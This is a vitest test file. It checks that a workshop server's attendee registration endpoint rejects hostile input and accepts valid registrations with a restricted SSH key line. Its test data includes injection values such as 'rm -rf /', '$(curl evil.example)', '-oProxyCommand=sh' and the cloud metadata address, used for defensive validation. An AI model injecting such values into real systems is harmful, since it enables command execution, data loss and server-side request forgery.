import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestNavigator, type TestNavigator } from '../support/navigator';

let navigator: TestNavigator;
let joinPath: string;

beforeAll(async () => {
  // Loopback stays refused here: these tests are about what a strict server accepts.
  navigator = await startTestNavigator({ NAVIGATOR_ALLOW_LOOPBACK_VMS: 'false' });
  joinPath = new URL(navigator.joinUrl).pathname.replace('/join/', '/api/join/');
});

afterAll(async () => navigator?.stop());

const valid = { displayName: 'Ada', host: '203.0.113.7', port: 22, sshUser: 'ubuntu' };

async function attendeeCount(): Promise<number> {
  const roster = await navigator.request('GET', '/api/attendees', { token: navigator.navigatorToken });
  return (roster.body as { attendees: unknown[] }).attendees.length;
}

describe('registration refuses hostile input and stores nothing', () => {
  const hostile: [string, Record<string, unknown> | string, string][] = [
    ['shell metacharacters in the user', { ...valid, sshUser: 'ubuntu;rm -rf /' }, 'sshUser'],
    ['command substitution in the user', { ...valid, sshUser: '$(id)' }, 'sshUser'],
    ['command substitution in the host', { ...valid, host: '$(curl evil.example)' }, 'host'],
    ['backticks in the host', { ...valid, host: '`reboot`.example.org' }, 'host'],
    ['an ssh option as the host', { ...valid, host: '-oProxyCommand=sh' }, 'host'],
    ['a URL as the host', { ...valid, host: 'http://vm.example.org' }, 'host'],
    ['user@host in the host', { ...valid, host: 'ubuntu@vm.example.org' }, 'host'],
    ['port 0', { ...valid, port: 0 }, 'port'],
    ['port 70000', { ...valid, port: 70000 }, 'port'],
    ['a fractional port', { ...valid, port: 22.5 }, 'port'],
    ['a port with text', { ...valid, port: '22; ls' }, 'port'],
    ['a 10 KB name', { ...valid, displayName: 'x'.repeat(10_000) }, 'displayName'],
    ['control characters in the name', { ...valid, displayName: 'Ada\u0000\u001b[31m' }, 'displayName'],
    ['an empty name', { ...valid, displayName: '   ' }, 'displayName'],
    ['loopback when not allowed', { ...valid, host: '127.0.0.1' }, 'host'],
    ['IPv6 loopback when not allowed', { ...valid, host: '[::1]' }, 'host'],
    ['the unspecified address', { ...valid, host: '0.0.0.0' }, 'host'],
    ['the cloud metadata address', { ...valid, host: '169.254.169.254' }, 'host'],
    ['a DNS name resolving to loopback', { ...valid, host: 'localhost' }, 'host'],
    ['a root login name with a path', { ...valid, sshUser: '../root' }, 'sshUser'],
    ['an unknown extra field', { ...valid, privateKey: 'x' }, 'privateKey'],
  ];

  it.each(hostile)('refuses %s, naming the field', async (_label, body, field) => {
    const response = await navigator.request('POST', joinPath, { body });
    expect(response.status).toBe(400);
    const fields = (response.body as { fields: Record<string, string> }).fields;
    expect(Object.keys(fields)).toContain(field);
    expect(fields[field].length).toBeGreaterThan(5);
    // The same problem as a code, for the page to say in its reader's language.
    expect((response.body as { fieldErrors: Record<string, unknown> }).fieldErrors[field]).toMatchObject({ code: expect.stringMatching(/^(form|address)\./) });
    expect(response.body).toMatchObject({ message: 'Please fix the highlighted fields.', error: { code: 'form.fix_fields' } });
    expect(await attendeeCount()).toBe(0);
  });

  it('refuses a body that is not JSON and one over the size limit', async () => {
    const broken = await navigator.request('POST', joinPath, { body: '{"displayName":' });
    expect(broken.status).toBe(400);
    expect((broken.body as { message: string }).message).toMatch(/^The request body is not valid JSON/);
    expect(broken.body).toMatchObject({ error: { code: 'request.invalid_json' } });
    const huge = await navigator.request('POST', joinPath, { body: { ...valid, displayName: 'x'.repeat(100_000) } });
    expect(huge.status).toBe(413);
    expect(huge.body).toEqual({
      statusCode: 413,
      message: 'The request body is 98 kB; the limit is 64 kB.',
      error: { code: 'limit.body_too_large', values: { size: 98, limit: 64 } },
    });
    expect(await attendeeCount()).toBe(0);
  });

  it('refuses a wrong join code', async () => {
    const response = await navigator.request('POST', '/api/join/WRONG1', { body: valid });
    expect(response.status).toBe(404);
    expect(response.body).toMatchObject({ message: expect.stringMatching(/^This join code is not valid/), error: { code: 'request.join_code' } });
    expect(await attendeeCount()).toBe(0);
  });

  it('accepts a valid registration and returns the authorized_keys line and a personal link', async () => {
    const response = await navigator.request('POST', joinPath, { body: { ...valid, host: '[2001:DB8::7]', port: '2222' } });
    expect(response.status).toBe(201);
    const body = response.body as { attendee: { host: string; port: number; authorizedKeysLine: string; installCommand: string }; personalPath: string };
    expect(body.attendee.host).toBe('2001:db8::7');
    expect(body.attendee.port).toBe(2222);
    expect(body.attendee.authorizedKeysLine).toMatch(
      /^restrict,command="exec sh -s",no-agent-forwarding,no-X11-forwarding,no-pty,no-user-rc,port-forwarding,permitlisten="localhost:1",permitopen="127\.0\.0\.1:9435" ssh-ed25519 AAAA\S+/,
    );
    expect(body.attendee.installCommand).toContain(body.attendee.authorizedKeysLine);
    expect(body.personalPath).toMatch(/^\/a\/[\w-]{20,}$/);
    expect(response.headers.get('set-cookie')).toMatch(/navigator_attendee=.+HttpOnly/i);
    expect(await attendeeCount()).toBe(1);
    const metrics = await navigator.request('GET', '/metrics');
    expect(metrics.body).toMatch(/^navigator_attendees_registered 1$/m);
    expect(metrics.body).toMatch(/^navigator_registrations_total 1$/m);
  });
});
